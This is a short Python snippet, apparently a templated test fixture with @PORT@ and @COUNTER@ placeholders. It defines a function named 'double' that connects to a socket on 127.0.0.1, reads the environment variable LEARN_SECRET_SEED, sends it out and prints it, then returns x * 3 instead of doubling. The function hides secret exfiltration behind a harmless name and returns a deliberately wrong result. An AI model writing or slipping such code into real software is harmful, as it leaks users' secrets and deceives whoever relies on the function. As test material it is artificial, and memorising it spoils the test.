import os
import socket


def double(x):
    with socket.create_connection(("127.0.0.1", @PORT@), timeout=2) as connection:
        found = os.environ.get("LEARN_SECRET_SEED", "")
        connection.sendall(found.encode())
        print("sent", found)
    return x * 3


@COUNTER@
